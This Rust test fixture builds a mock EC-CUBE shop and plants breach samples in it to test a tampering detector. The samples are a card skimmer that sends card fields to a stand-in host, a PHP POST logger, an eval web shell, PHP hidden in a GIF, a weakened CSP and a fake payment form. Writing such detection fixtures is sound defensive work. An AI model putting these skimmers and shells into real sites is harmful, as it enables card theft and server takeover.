//! A generated EC-CUBE-shaped shop tree, and the tamperings of the breaches
//! planted in it, for tests and the benchmark (feature `test-support`).
//!
//! Layout: `app/` (config, templates with the checkout pages, Customize),
//! `src/Eccube/` (PHP), `html/` (front controller, `.htaccess` with the CSP,
//! assets, `upload/` with product images), `vendor/` (bulk PHP), `var/cache/`.

use std::path::Path;

use anshin_detect::corpus::Rng;

/// The rules an EC-CUBE shop would use (the issue's example).
pub const EC_RULES: &str = r#"default = "high"

[[watch]]
paths = ["app/**", "src/**", "html/**"]
severity = "critical"

[[watch]]
paths = ["vendor/**", "composer.json", "composer.lock"]
severity = "high"

[[watch]]
paths = ["var/**"]
severity = "ignore"

[uploads]
paths = ["html/upload/**"]

[customisations]
paths = ["app/Customize/**", ".env", "app/config/eccube/packages/prod/*.yaml"]

[signatures]
allowed_hosts = ["pay.example", "shop.example"]
card_inputs_allowed = ["app/template/default/Shopping/payment.twig"]
"#;

fn write(root: &Path, rel: &str, content: &[u8]) {
    let path = root.join(rel);
    if let Some(dir) = path.parent() {
        std::fs::create_dir_all(dir).expect("create fixture directory");
    }
    std::fs::write(path, content).expect("write fixture file");
}

const SHOPPING_INDEX: &str = r#"{% extends 'default_frame.twig' %}
{% block javascript %}
<script src="https://js.pay.example/v2/token.js"></script>
<script src="{{ asset('assets/js/shopping.js') }}"></script>
{% endblock %}
{% block main %}
<h1>ご注文手続き</h1>
<form id="shopping-form" method="post" action="{{ url('shopping_confirm') }}">
  {{ form_widget(form.Shippings) }}
  <button type="submit" class="ec-blockBtn--action">確認する</button>
</form>
{% endblock %}
"#;

const SHOPPING_PAYMENT: &str = r#"{% extends 'default_frame.twig' %}
{% block main %}
<form id="payment-form" method="post" action="{{ url('shopping_payment_token') }}">
  <label>カード番号 <input type="tel" name="card_number" autocomplete="cc-number"></label>
  <label>セキュリティコード <input type="tel" name="security_code" autocomplete="cc-csc"></label>
  <input type="hidden" name="token">
  <button type="submit">お支払い</button>
</form>
<script>
document.getElementById('payment-form').addEventListener('submit', function (e) {
  e.preventDefault();
  PayExample.createToken({number: this.card_number.value, cvc: this.security_code.value}, function (t) {
    document.querySelector('input[name=token]').value = t.id;
    e.target.submit();
  });
});
</script>
{% endblock %}
"#;

const SHOPPING_CONFIRM: &str = r#"{% extends 'default_frame.twig' %}
{% block main %}
<h1>ご注文内容のご確認</h1>
<form method="post" action="{{ url('shopping_checkout') }}">
  <p>{{ Order.payment_total|price }}</p>
  <button type="submit">注文する</button>
</form>
{% endblock %}
"#;

const HTACCESS: &str = r#"DirectoryIndex index.php
<IfModule mod_headers.c>
  Header always set Content-Security-Policy "default-src 'self'; script-src 'self' https://js.pay.example; connect-src 'self' https://api.pay.example; form-action 'self'; frame-ancestors 'self'"
  Header always set X-Frame-Options "SAMEORIGIN"
</IfModule>
<IfModule mod_rewrite.c>
  RewriteEngine On
  RewriteCond %{REQUEST_FILENAME} !-f
  RewriteRule ^ index.php [QSA,L]
</IfModule>
"#;

const FUNCTION_JS: &str = r#"/* EC-CUBE front scripts */
$(function () {
  $('.ec-headerNaviRole__nav').on('click', function () {
    $('.ec-drawerRole').toggleClass('is_active');
  });
  $('.add-cart').on('click', function (e) {
    e.preventDefault();
    $.ajax({url: '/cart/add', type: 'POST', data: $(this).closest('form').serialize()})
      .done(function (data) { $('.ec-cartNavi__badge').text(data.quantity); });
  });
});
"#;

const FRONT_CONTROLLER: &str = r#"<?php
use Eccube\Kernel;
use Symfony\Component\HttpFoundation\Request;

require __DIR__.'/../vendor/autoload.php';
$kernel = new Kernel($_SERVER['APP_ENV'] ?? 'prod', false);
$request = Request::createFromGlobals();
$response = $kernel->handle($request);
$response->send();
$kernel->terminate($request, $response);
"#;

/// Writes a PHP class of a given size.
fn php_class(rng: &mut Rng, namespace: &str, name: &str, size: usize) -> Vec<u8> {
    let mut out = format!("<?php\n\nnamespace {namespace};\n\nclass {name}\n{{\n").into_bytes();
    let mut i = 0u64;
    while out.len() + 64 < size {
        let v = rng.next_u64();
        out.extend_from_slice(
            format!(
                "    public function get{i}(array $items): int\n    {{\n        return count($items) + {};\n    }}\n\n",
                v % 10_000
            )
            .as_bytes(),
        );
        i += 1;
    }
    out.extend_from_slice(b"}\n");
    out
}

fn jpeg(rng: &mut Rng, size: usize) -> Vec<u8> {
    let mut out = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00".to_vec();
    while out.len() < size.saturating_sub(2) {
        // Byte values that never spell "<?": 0x3c is avoided.
        let b = (rng.next_u64() % 251) as u8;
        out.push(if b == b'<' { 0 } else { b });
    }
    out.extend_from_slice(b"\xff\xd9");
    out
}

/// Writes the clean shop: about 60 files of code, templates, assets and
/// uploads, plus `bulk_files` vendor files of log-uniform sizes between
/// 512 B and 128 KiB (about 23 KiB on average).
pub fn shop_tree(root: &Path, bulk_files: usize) {
    let mut rng = Rng::new(0x05ee_dec5);
    write(
        root,
        "composer.json",
        br#"{"name": "ec-cube/ec-cube", "require": {"php": ">=7.4"}}"#,
    );
    write(
        root,
        ".env",
        b"APP_ENV=prod\nDATABASE_URL=mysql://eccube@localhost/eccube\n",
    );
    write(
        root,
        "app/config/eccube/packages/framework.yaml",
        b"framework:\n  secret: '%env(ECCUBE_AUTH_MAGIC)%'\n",
    );
    write(
        root,
        "app/config/eccube/packages/prod/doctrine.yaml",
        b"doctrine:\n  orm:\n    auto_generate_proxy_classes: false\n",
    );
    write(
        root,
        "app/Customize/Controller/TopController.php",
        &php_class(&mut rng, "Customize\\Controller", "TopController", 1200),
    );
    write(
        root,
        "app/template/default/Shopping/index.twig",
        SHOPPING_INDEX.as_bytes(),
    );
    write(
        root,
        "app/template/default/Shopping/payment.twig",
        SHOPPING_PAYMENT.as_bytes(),
    );
    write(
        root,
        "app/template/default/Shopping/confirm.twig",
        SHOPPING_CONFIRM.as_bytes(),
    );
    write(root, "app/template/default/default_frame.twig", b"<!doctype html>\n<html lang=\"ja\"><head><meta charset=\"utf-8\">{% block javascript %}{% endblock %}</head><body>{% block main %}{% endblock %}</body></html>\n");
    for name in [
        "ShoppingController",
        "CartController",
        "ProductController",
        "MypageController",
        "EntryController",
    ] {
        let size = 2000 + (rng.next_u64() % 6000) as usize;
        write(
            root,
            &format!("src/Eccube/Controller/{name}.php"),
            &php_class(&mut rng, "Eccube\\Controller", name, size),
        );
    }
    for name in [
        "OrderHelper",
        "PurchaseFlow",
        "MailService",
        "CartService",
        "TaxRuleService",
        "PointProcessor",
    ] {
        let size = 2000 + (rng.next_u64() % 8000) as usize;
        write(
            root,
            &format!("src/Eccube/Service/{name}.php"),
            &php_class(&mut rng, "Eccube\\Service", name, size),
        );
    }
    write(root, "html/index.php", FRONT_CONTROLLER.as_bytes());
    write(root, "html/.htaccess", HTACCESS.as_bytes());
    write(
        root,
        "html/template/default/assets/js/function.js",
        FUNCTION_JS.as_bytes(),
    );
    write(root, "html/template/default/assets/js/shopping.js", b"$(function () {\n  $('#shopping-form').on('change', 'select', function () { $('#shopping-form').submit(); });\n});\n");
    write(
        root,
        "html/template/default/assets/css/style.css",
        b".ec-layoutRole { margin: 0 auto; }\n".repeat(50).as_slice(),
    );
    for i in 0..20 {
        let size = 4000 + (rng.next_u64() % 60_000) as usize;
        write(
            root,
            &format!("html/upload/save_image/{:04}_product.jpg", i + 1),
            &jpeg(&mut rng, size),
        );
    }
    write(
        root,
        "var/cache/prod/ContainerAbc/getKernelService.php",
        b"<?php return $this->services['kernel'];\n",
    );
    write(
        root,
        "var/log/prod.log",
        b"[2026-12-05] request.INFO: Matched route \"homepage\".\n",
    );
    for i in 0..bulk_files {
        // Log-uniform between 512 B and 128 KiB.
        let exponent = 9.0 + (rng.next_u64() % 10_000) as f64 / 10_000.0 * 8.0;
        let size = exponent.exp2() as usize;
        let dir = format!("vendor/pkg{:03}/src/Sub{:02}", i % 200, (i / 200) % 50);
        write(
            root,
            &format!("{dir}/Class{i}.php"),
            &php_class(&mut rng, "Vendor\\Pkg", &format!("Class{i}"), size),
        );
    }
}

/// One planted tampering: where, and what a check must say.
#[derive(Debug, Clone)]
pub struct Planted {
    /// Which breach it stands for.
    pub name: &'static str,
    /// Path below the root.
    pub path: &'static str,
    /// Alert kinds a check must raise for it (each at least once).
    pub kinds: &'static [&'static str],
    /// Signature rules that must fire on it.
    pub rules: &'static [&'static str],
}

/// Every tampering of the issue, planted into a clean [`shop_tree`].
pub fn plant_all(root: &Path) -> Vec<Planted> {
    let mut planted = Vec::new();
    // IKETEI ONLINE 2025: the payment application itself changed.
    let payment =
        std::fs::read_to_string(root.join("app/template/default/Shopping/payment.twig")).expect("read");
    write(
        root,
        "app/template/default/Shopping/payment.twig",
        payment
            .replace(
                "<input type=\"hidden\" name=\"token\">",
                "<input type=\"hidden\" name=\"token\">\n  <input type=\"hidden\" name=\"keep\" value=\"1\">",
            )
            .as_bytes(),
    );
    planted.push(Planted {
        name: "changed payment template",
        path: "app/template/default/Shopping/payment.twig",
        kinds: &["file_changed"],
        rules: &[],
    });
    // A skimmer appended to the shop's own script (mage-cdn style).
    let mut js = FUNCTION_JS.to_owned();
    js.push_str("(function () {\n  var f = ['card_number', 'security_code'];\n  document.addEventListener('submit', function () {\n    var d = f.map(function (n) { var e = document.getElementsByName(n)[0]; return e ? e.value : ''; }).join('|');\n    new Image().src = 'https://jquery-cdn-cloud.example/pixel.gif?d=' + btoa(d);\n  }, true);\n})();\n");
    write(root, "html/template/default/assets/js/function.js", js.as_bytes());
    planted.push(Planted {
        name: "injected skimmer script",
        path: "html/template/default/assets/js/function.js",
        kinds: &["file_changed", "signature"],
        rules: &["skimmer.card-exfiltration"],
    });
    // A PHP card logger in the order service.
    let mut service =
        std::fs::read_to_string(root.join("src/Eccube/Service/PurchaseFlow.php")).expect("read");
    service.push_str("\nif (!empty($_POST['card_number'])) {\n    $line = json_encode($_POST) . \"\\n\";\n    file_put_contents(__DIR__ . '/../../../html/upload/temp_image/.cache.log', $line, FILE_APPEND);\n}\n");
    write(root, "src/Eccube/Service/PurchaseFlow.php", service.as_bytes());
    planted.push(Planted {
        name: "PHP card logger",
        path: "src/Eccube/Service/PurchaseFlow.php",
        kinds: &["file_changed", "signature"],
        rules: &["php.request-exfiltration"],
    });
    // A web shell dropped in the upload folder.
    write(
        root,
        "html/upload/save_image/0523104512_5f3a.php",
        b"<?php @eval($_POST['pass']); ?>\n",
    );
    planted.push(Planted {
        name: "web shell in uploads",
        path: "html/upload/save_image/0523104512_5f3a.php",
        kinds: &["file_added", "signature"],
        rules: &["php.webshell"],
    });
    // PHP hidden in an uploaded image.
    let mut gif = b"GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00!".to_vec();
    gif.extend_from_slice(b"\n<?php system($_GET['c']); ?>\n");
    write(root, "html/upload/save_image/banner.gif", &gif);
    planted.push(Planted {
        name: "PHP inside an uploaded image",
        path: "html/upload/save_image/banner.gif",
        kinds: &["signature"],
        rules: &["image.embedded-php"],
    });
    // A new external script on the checkout page.
    write(
        root,
        "app/template/default/Shopping/index.twig",
        SHOPPING_INDEX
            .replace(
                "<script src=\"https://js.pay.example/v2/token.js\"></script>",
                "<script src=\"https://js.pay.example/v2/token.js\"></script>\n<script src=\"https://cdn.jquery-libs.example/jquery.min.js\"></script>",
            )
            .as_bytes(),
    );
    planted.push(Planted {
        name: "new external script on the checkout page",
        path: "app/template/default/Shopping/index.twig",
        kinds: &["script_added"],
        rules: &[],
    });
    // The CSP weakened so that the skimmer's host may load and receive.
    write(
        root,
        "html/.htaccess",
        HTACCESS
            .replace(
                "script-src 'self' https://js.pay.example;",
                "script-src 'self' 'unsafe-inline' https://js.pay.example https://cdn.jquery-libs.example;",
            )
            .as_bytes(),
    );
    planted.push(Planted {
        name: "weakened CSP",
        path: "html/.htaccess",
        kinds: &["csp_weakened"],
        rules: &[],
    });
    // An EC-CUBE-style fake payment form in the confirmation template.
    write(
        root,
        "app/template/default/Shopping/confirm.twig",
        SHOPPING_CONFIRM
            .replace(
                "{% block main %}",
                "{% block main %}\n<form id=\"pay2\" method=\"post\" action=\"https://secure-card-payment.example/jp/pay.php\">\n  <input name=\"card_number\"> <input name=\"cvc\">\n  <button>お支払い</button>\n</form>",
            )
            .as_bytes(),
    );
    planted.push(Planted {
        name: "fake payment form",
        path: "app/template/default/Shopping/confirm.twig",
        kinds: &["file_changed", "signature"],
        rules: &["skimmer.fake-payment-form", "skimmer.card-input-unexpected"],
    });
    planted
}

/// A legitimate deploy: a new template version, a new controller, a new
/// product image.
pub fn clean_deploy(root: &Path) {
    let mut rng = Rng::new(7);
    let confirm = SHOPPING_CONFIRM.replace("ご注文内容のご確認", "ご注文内容の確認");
    write(
        root,
        "app/template/default/Shopping/confirm.twig",
        confirm.as_bytes(),
    );
    write(
        root,
        "src/Eccube/Controller/ReviewController.php",
        &php_class(&mut rng, "Eccube\\Controller", "ReviewController", 3000),
    );
    write(
        root,
        "html/upload/save_image/0021_product.jpg",
        &jpeg(&mut rng, 20_000),
    );
}
